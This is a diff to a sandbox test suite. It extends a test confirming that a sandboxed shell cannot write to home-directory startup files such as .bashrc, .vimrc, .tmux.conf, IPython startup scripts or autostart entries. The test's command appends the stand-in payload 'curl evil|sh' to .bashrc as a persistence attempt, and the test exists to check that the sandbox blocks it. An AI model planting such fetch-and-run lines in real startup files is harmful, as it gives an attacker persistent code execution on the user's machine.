@@ -158,11 +158,15 @@ def startup_files_unwritable_from_home():
     os.mkdir(os.path.join(home, "project"))
     p = litebox("run", "--", "sh", "-c",
                 "echo ok > project/out; echo 'curl evil|sh' >> .bashrc; "
+                "echo evil > .bash_aliases; echo evil > .vimrc; echo evil > .tmux.conf; "
+                "mkdir -p .ipython/profile_default/startup && echo x > .ipython/profile_default/startup/a.py; "
                 "mkdir -p .config/autostart && echo x > .config/autostart/x.desktop",
                 cwd=home, env=env)
     eq(read(os.path.join(home, "project", "out")), "ok\n", "control: $CWD is writable")
     eq(read(rc), "# original\n", "~/.bashrc unchanged on the host")
     assert not os.path.exists(os.path.join(home, ".config", "autostart", "x.desktop"))
+    for name in (".bash_aliases", ".vimrc", ".tmux.conf", ".ipython/profile_default/startup/a.py"):
+        assert not os.path.exists(os.path.join(home, name)), name + " written"
     assert f"denied write {os.path.realpath(home)}/.bashrc" in p.stderr, p.stderr
 
 
